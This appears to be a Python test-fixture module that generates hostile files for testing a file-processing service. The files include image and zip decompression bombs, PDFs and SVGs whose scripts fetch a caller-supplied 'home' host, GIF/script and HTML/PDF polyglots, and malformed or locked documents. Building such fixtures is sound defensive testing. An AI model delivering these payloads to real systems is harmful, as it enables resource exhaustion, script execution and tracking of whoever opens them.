"""Files that were made to do harm, or to pass for another kind: small, and each with a way to call home."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib


def png(width: int = 8, height: int = 8, *, rows: bytes | None = None) -> bytes:
    """A picture in one grey; with `rows`, these compressed rows under whatever size the header claims."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    content = rows if rows is not None else zlib.compress(b"".join(b"\0" + b"\x80" * width for _ in range(height)))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", content) + _chunk(b"IEND", b"")


def image_bomb() -> bytes:
    """A few hundred bytes that claim nine thousand million points."""
    return png(95_000, 95_000, rows=zlib.compress(b"\0" * 1000))


def image_too_large() -> bytes:
    """A hundred kilobytes that are a hundred and twenty million points, each of them there."""
    return png(11_000, 11_000, rows=zlib.compress(bytes(11_001 * 11_000), 9))


def png_with(mark: bytes) -> bytes:
    """A picture that carries a mark beside its points."""
    plain = png()
    return plain[:-12] + _chunk(b"tEXt", b"Comment\0" + mark) + plain[-12:]


def pdf_with_script(home: str) -> bytes:
    """A page with a line of text, and an action that runs a script and one that asks `home` when it is opened."""
    stream = b"BT /F1 24 Tf 40 100 Td (Plain words) Tj ET"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</O 7 0 R>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</S/JavaScript/JS(app.launchURL('%s/js');this.submitForm('%s/form');fetch('%s/fetch'))>>"
        % ((home.encode(),) * 3),
        b"<</S/URI/URI(%s/uri)>>" % home.encode(),
    ]
    return _pdf(objects)


def pdf_that_tells(mark: bytes) -> bytes:
    """Three pages with a mark in their words, their title and a file inside, and a fourth that is named and not there.

    On the first, 300 by 200 points, the mark stands in the middle, and other words below it.
    """
    first = b"BT /F1 9 Tf 100 98 Td (%s) Tj 0 -60 Td (What may be read) Tj ET" % mark
    second = zlib.compress(b"BT /F1 24 Tf 40 100 Td (%s) Tj ET" % mark)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents %d 0 R/Resources<</Font<</F1 8 0 R>>>>>>"
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.txt) 9 0 R]>>>>>>",
            b"<</Type/Pages/Kids[3 0 R 4 0 R 5 0 R 99 0 R]/Count 4>>",
            page % 6,
            page % 7,
            page % 7,
            b"<</Length %d>>stream\n%s\nendstream" % (len(first), first),
            b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(second), second),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            b"<</Type/Filespec/F(a.txt)/EF<</F 10 0 R>>>>",
            b"<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream" % (len(mark), mark),
            b"<</Title(%s)/Author(%s)>>" % (mark, mark),
        ],
        b"/Info 11 0 R",
    )


def pdf_of_pages(number: int) -> bytes:
    """A document that names one page so many times."""
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count %d/Kids[%s]>>" % (number, b"3 0 R " * number),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>",
        ]
    )


def pdf_that_is_locked() -> bytes:
    """A document that asks for a password which nobody here has."""
    lock = b"<</Filter/Standard/V 1/R 2/Length 40/P -4/O<%s>/U<%s>>>" % (b"5a" * 32, b"a5" * 32)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>", lock]
    return _pdf(objects, b"/Encrypt 3 0 R/ID[<%s><%s>]" % (b"00" * 16, b"00" * 16))


def svg_with_script(home: str) -> bytes:
    """A drawing that loads from `home`, by script and by reference."""
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="fetch(\'{home}/onload\')">'
        f"<script>fetch('{home}/script');top.document.title='mine'</script>"
        f'<image href="{home}/image.png" width="9" height="9"/><rect width="90" height="90" fill="teal"/></svg>'
    ).encode()


def page(home: str) -> bytes:
    """A page that calls home by every way that a page has."""
    return f"<!doctype html><script>fetch('{home}/page')</script><img src='{home}/img'>".encode()


def gif_that_is_a_script(home: str) -> bytes:
    """A polyglot: begins as a GIF does, and is a script all along."""
    return b"GIF89a/*\x01\x00\x80\x00\x00*/=1;fetch('" + home.encode() + b"/gif');//;"


def pdf_that_is_a_page(home: str) -> bytes:
    """A polyglot: a page before the mark of a PDF, which readers look for in the first thousand bytes."""
    return page(home) + b"\n" + pdf_with_script(home)


def film_that_lies() -> bytes:
    """The first box of a film, and nothing of one behind it."""
    return struct.pack(">I", 24) + b"ftypisom\0\0\2\0isomiso2" + b"\xff" * 4000


def zip_bomb() -> bytes:
    """A kilobyte that would be a megabyte; it is never unpacked here, whatever its size would be."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(1_000_000))
    return held.getvalue()


def _pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, start)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
